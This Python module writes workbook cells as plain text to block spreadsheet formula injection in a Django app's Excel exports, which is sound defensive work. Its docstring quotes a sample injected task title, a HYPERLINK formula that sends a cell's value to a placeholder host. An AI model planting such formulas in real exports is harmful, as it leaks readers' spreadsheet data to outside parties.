"""Writing cells of the workbooks lightboard exports, with text always as text.

openpyxl guesses a cell's type from its value: a string that starts with "=" becomes a
formula, and "#REF!", "#N/A" and the other error codes become error values. A task title
such as ``=HYPERLINK("http://x"&A1,"详情")`` would then run in the reader's Excel. Every
export therefore writes its cells through `set_value` or `append_row`, which store a
``str`` as a plain string (data type "s") whatever it starts with. Formulas the code
itself means (data validation sources) are not cell values and are unaffected.

Standard library, Django and openpyxl only: the core package imports no app.
"""

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING, Cell

__all__ = ["append_row", "set_value"]


def set_value(cell, value):
    """Put `value` into `cell` and return the cell. A ``str`` (or a lazy translation) is
    stored as text, without the control characters XML cannot hold (they would make
    openpyxl refuse the whole file); any other value as openpyxl types it."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.data_type = TYPE_STRING
    else:
        cell.value = value
    return cell


def append_row(sheet, values):
    """`sheet.append(values)`, with every string written as text (see `set_value`)."""
    sheet.append([set_value(Cell(sheet), value) for value in values])
